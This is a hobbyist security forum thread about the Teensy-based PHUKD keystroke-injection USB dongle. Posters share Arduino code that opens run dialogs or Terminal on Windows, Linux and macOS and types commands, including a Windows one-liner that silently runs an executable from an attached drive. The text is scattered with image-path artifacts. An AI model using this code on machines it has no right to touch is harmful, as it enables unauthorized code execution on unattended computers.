Jump to content



Recommended Posts


>:( no code yet sorry

EDIT: I would encourage people to transition to the usbducky section of the forum with any further suggestions and questions. If what Darren is putting out is better than this I will not be updating this thread with the code.

This is the first thread here on the phukd? really?If you are looking for the USBDucky then hold on it's on it's way but this ain't it.

Darren has been working for about a year on the USBDucky and it will certainly be good. So get your teensy and some other parts I'm not comfortable talking about ('cause I'm not sure Darren will use them) and play with my and Irongeek's code but keep an eye out for the USBDucky on Hak5 IT WILL BE GOOD. The conversation on #hak5 included the words "plug and play" and "turnkey" in reference to the USBDucky, so if this ain't good it'll at least be easy to get up and running, but after a year of work I can't imagine it won't be anything but amazing.

So for those of you who don't know the PHUKD is this doohhicky --> http://www.irongeek.com/i.php?page=securit...eystroke-dongleSome parts you might consider getting regardless of what Darren does:

- LEDs for feedback

- microSD slot (the breakout boards are just as tiny so unless you are a huge soldering noob go for the slot by itself)

- USB adapter for the miniB port (miniB to regularA double-male)

- a 2 position switch to arm it and disarm it

I suggest the microSD slot because I will be adding support for using the teensy as a mass storage device or running code on the teensy from the sdcard if Darren hasn't when he releases the Ducky.

Here is one thing left out of the article:

* in the arduino gui goto: sketch > add file and add all the files in arduino-xxxx/hardware/teensy/cores/tensy_hid/

I have not tested if all the files are needed but I have bigger fish to fry at the moment.

Goto: Tools > Board > <your teensy model> (USB Keyboard/Mouse)

Here are some changes i made to the original example.

As is this will just blink (you won't see it since it happens so fast) you need to put a call to payload function in the place the comments say too or you can uncomment one of mine.

EDIT: Added some more functions and update some info.

EDIT (3/31/2010 12:22): Oh holy shit apple sucks big hairy donkey balls no run dialog and funny keys >:( Working on the AppleCommandRun funtion what is below is the best i can do right now i have no mac (just a VM) so i was lucky enough to get HaDak from #hak5 to find the keycode for the apple key. I need to do some getting payed fooling around though so I can't test it today.EDIT (4/1/2010): fix path for Apple payload's text edit demo

EDIT (4/2/2010): Omi has fixed the AppleCommandRun and i am going to buy a copy of snowlepord to test with as soon as i get paid.

/* The following is Irongeek's code (with many additions and subtractions by haxwithaxe and Omidenchin(aka Omi)) to do simple keyboard/mouse functions with the Teensy, including
 something like U3 functionality that will work even if autorun is disabled.
 NOTE: haxwithaxe has removed the DIPSwitch code because he doesn't have a dipswitch to play with, but it can be just as easily put back in and used to
       select the payload. It is strongly recommended that you go to Irongeek's site and not only look at his code but watch the acompanying video right
       above the code example

 Original Source: http://www.irongeek.com/i.php?page=security/programmable-hid-usb-keystroke-dongle
 Also see his updated source with some of my stuff in it.

 To learn more about Teensyduino see:
 Look in arduino-xxxx\hardware\teensy\cores\tensy_hid\usb_api.h for key definitions
 Edit arduino-xxxx\hardware\teensy\cores\tensy_hid\usb_private.h to change USB Vendor and Product ID

 To learn more about keboard shortcuts
 Apple: http://support.apple.com/kb/ht1343
 Windows: http://support.microsoft.com/kb/126449
 Gnome/KDE:http://www.novell.com/coolsolutions/tip/2289.html
 please add more to this list if you can think of any window managers that have default keyboard shortcuts

int ledPin = 6; // LED connected to digital pin 11 for teensy2 and pin 6 for teensy2++

// The setup() method runs once, when the sketch starts
void setup() {
  // initialize the digital pin as an output:
  pinMode(ledPin, OUTPUT);

// the loop() method runs over and over again,
// as long as the Arduino has power
void loop() {
  delay(1000); // wait for host to listen
  digitalWrite(ledPin, HIGH); // set the LED on// os detection and payload go here
  digitalWrite(ledPin, LOW); // set the LED off
  delay(15000); //keeps commands from being sent one after the other too fast

void LinuxPayload(){
  GnomeKDECommandRun("xterm -e \"echo kill all humans! ... 01010001 > pwnd&& cat pwnd -\"");
  // run drive finding cmd to be ripped from casper hopefully it'll be a "one liner"
  // i dont exist yet T_T
  // also waiting for Darren's USBDucky example code to see if he has gotten around doing this

void WindowsPayload(){
  Keyboard.print("Irongeek was here!!! }:)");

  WindowsCommandRun("cmd /c for /F %i in ('WMIC logicaldisk where \"DriveType=2\" list brief ^| find \"MYDISK\"') do %i\\myscript.exe");

void ApplePayload(){AppleCommandRun("/Applications/TextEdit.app/Contents/MacOS/TextEdit"); // open text editor
  Keyboard.print("hax was here!!! }:)"); // type message
  // or
  AppleCommandRun("echo kill all humans! ... 01010001"); // print a message directly in the terminal
  // run drive finding command
  // i don't own a mac so please feel free to make something up for me
  // also waiting for Darren's USBDucky example code to see if he has gotten around doing this

void WindowsCommandRun(char *SomeCommand){
  KeyCombo(MODIFIERKEY_GUI,KEY_R); // open run dialog
  delay(1500); // wait for it to open
  Keyboard.print(SomeCommand); // enter some command
  KeyPress(KEY_ENTER); // exec some command

void GnomeKDECommandRun(char *SomeCommand){
  KeyCombo(MODIFIERKEY_ALT,KEY_F2); // open run dialog
  delay(1500); // wait for it to open
  Keyboard.print(SomeCommand); // enter some command
  KeyPress(KEY_ENTER); // exec some command

// this is now works
void AppleCommandRun(char *SomeCommand){
  KeyCombo(MODIFIERKEY_GUI,KEY_SPACE); // "apple" aka command key, space key -- open spotlight
  delay(1500); // wanna make this as short as possible
  Keyboard.print("Terminal.app"); // type Terminal.app
  delay(1000); // wanna make this as short as possible
  KeyPress(KEY_ENTER); // press enter to run xterm
  delay(1500); // wanna make this as short as possible
  Keyboard.print(SomeCommand); // enter command
  KeyPress(KEY_ENTER); // run command

void KeyPress(int SomeKey) {
  Keyboard.set_key1(SomeKey); // set some key
  Keyboard.send_now(); // "press" some key
  // clear some key

void KeyCombo(int ModKey,int SomeKey) {
  Keyboard.set_modifier(ModKey); //set one or more modifier keys
  Keyboard.set_key1(SomeKey); // set regular key
  Keyboard.send_now(); // send strokes
  // clear keys
  Keyboard.set_modifier(0); //prep release of control keys
  Keyboard.set_key1(0); // have to do this to keep it from hitting key multiple times.

Edited by haxwithaxe
Link to comment
Share on other sites

I've updated my site, and the code:


I think I need to add some of your functions, just to make coding keystroke easier. I've made a function to repeat keystrokes you have to hit many times in a roll, like tab. I've also added better code for checking the photoresistor and doing something based on light, and a timer function so you can leave the PHUKD behind to wait for someone to login.

Link to comment
Share on other sites


Isn't it /Applications/TextEdit.app/Contents/MacOS/TextEdit ?It could well be. I only have a copy of deadmoo to work from but Ihave a mac owner working with me now so I'll see tonight I hope.

Just checked with the mac users on #hak5 and they confirmed my path was wrong

Edited by haxwithaxe
Link to comment
Share on other sites

  • 2 weeks later...

BTW, instead of:


you can do

open -a /Path/To/Application.app

Which is easier for some application where the name of the .app bundle is not the same names at the application itself.

Link to comment
Share on other sites

Join the conversationYou can post now and register later. If you have an account, sign in now to post with your account.

Reply to this topic...

×   Pasted as rich text.   Paste as plain text instead

  Only 75 emoji are allowed.

×   Your link has been automatically embedded.   Display as a link instead

×   Your previous content has been restored.   Clear editor

×   You cannot paste images directly. Upload or insert images from URL.

  • Recently Browsing   0 members

    • No registered users viewing thispage.
  • Create New...